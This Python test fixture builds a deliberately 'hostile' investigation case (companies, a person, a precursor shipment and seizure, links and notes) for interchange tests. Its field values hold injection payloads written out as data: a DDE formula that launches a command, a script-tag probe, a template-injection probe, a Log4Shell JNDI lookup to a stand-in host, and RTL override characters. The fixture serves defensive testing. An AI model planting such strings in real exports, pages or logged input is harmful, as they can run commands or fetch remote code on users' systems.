"""A case full of hostile text, for the interchange tests (markup, formulas, RTL marks, CJK)."""

from __future__ import annotations

from typing import Any

HOSTILE_REF = "CASE-HOSTILE-1"
FORMULAS = ("=HYPERLINK(\"http://x.example\",\"click\")", "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\tTAB=1", "\rCR=1")
RTL = "\u202eevil\u202c \u200fשלום\u200f مرحبا"
CJK = "上海化工科技有限公司"
MARKUP = "<script>alert('x')</script> & <b>bold</b> {{7*7}} ${jndi:ldap://x}"


def hostile_case(ws: Any) -> dict[str, str]:
    """A case whose companies, person, shipment, seizure, links and notes carry hostile
    text; returns the uids by name."""
    ws.cases.add({"ref": HOSTILE_REF, "title": MARKUP, "summary": FORMULAS[0] + RTL,
                  "agency": CJK})
    a = ws.companies.add({"name": FORMULAS[0], "name_original": CJK, "aliases": [RTL, MARKUP],
                          "country": "CN", "address": FORMULAS[1], "city": "上海",
                          "registration_no": "91310000MA1K4XXXX", "roles": ["supplier"],
                          "website": "https://lsyh.example", "emails": ["sales@lsyh.example"],
                          "phones": ["+86 21 5555 0101"], "sanctioned": True,
                          "sanctions_note": FORMULAS[2], "notes": FORMULAS[3]},
                         case=HOSTILE_REF)
    b = ws.companies.add({"name": RTL, "country": "MX", "notes": FORMULAS[4]}, case=HOSTILE_REF)
    p = ws.persons.add({"full_name": CJK + " (Li Wei)", "aliases": [FORMULAS[5]],
                        "nationality": "CN", "date_of_birth": "1984-02-29",
                        "role_note": MARKUP, "emails": ["li@lsyh.example"],
                        "phones": ["+86 138 0000 0000"], "notes": RTL}, case=HOSTILE_REF)
    sh = ws.shipments.add({"ref": "SH-=1+1", "tracking_no": FORMULAS[0], "mode": "air_cargo",
                           "shipper": a.uid, "consignee": b.uid, "origin_country": "CN",
                           "transit_countries": ["HK", "DE"], "destination_country": "MX",
                           "declared_description": MARKUP + " " + CJK,
                           "declared_hs_code": "2933.39", "shipped_on": "2026-01-05",
                           "arrived_on": "2026-01-09", "gross_weight_kg": "12.5",
                           "status": "intercepted", "notes": FORMULAS[1]}, case=HOSTILE_REF)
    sz = ws.seizures.add({"exhibit_ref": "EX-@1", "seized_on": "2026-01-09",
                          "place": RTL, "country": "MX", "latitude": "-23.5",
                          "longitude": "-103.25", "agency": MARKUP, "substance": "NPP",
                          "form": "powder", "net_quantity": "12", "unit": "kg",
                          "purity_percent": "96.4", "lab_confirmed": True, "lab_ref": CJK,
                          "shipment": sh.uid, "concealment": FORMULAS[0],
                          "notes": FORMULAS[3]}, case=HOSTILE_REF)
    links = [
        ws.links.add({"subject_kind": "person", "subject": p.uid, "relation": "officer_of",
                      "object_kind": "company", "object": a.uid, "evidence": FORMULAS[0],
                      "source_reliability": "B", "info_credibility": "2",
                      "first_seen": "2025-01-01", "last_seen": "2026-01-01"}, case=HOSTILE_REF),
        ws.links.add({"subject_kind": "person", "subject": p.uid, "relation": "owns",
                      "object_kind": "company", "object": b.uid, "evidence": RTL,
                      "source_reliability": "F", "info_credibility": "6"}, case=HOSTILE_REF),
        ws.links.add({"subject_kind": "company", "subject": a.uid, "relation": "shares_address",
                      "object_kind": "company", "object": b.uid, "evidence": MARKUP,
                      "first_seen": "2025-05-05", "last_seen": "2025-05-05"}, case=HOSTILE_REF),
        ws.links.add({"subject_kind": "company", "subject": a.uid, "relation": "offers",
                      "object_kind": "substance", "object": "NPP", "evidence": CJK},
                     case=HOSTILE_REF),
    ]
    ws.notes.add({"body": MARKUP + "\n" + FORMULAS[0] + "\n" + RTL + CJK}, case=HOSTILE_REF)
    ws.notes.add({"body": "On the shipper: " + FORMULAS[2], "target_kind": "company",
                  "target_uid": a.uid}, case=HOSTILE_REF)
    return {"a": a.uid, "b": b.uid, "p": p.uid, "shipment": sh.uid, "seizure": sz.uid,
            **{f"link{i}": link.uid for i, link in enumerate(links)}}
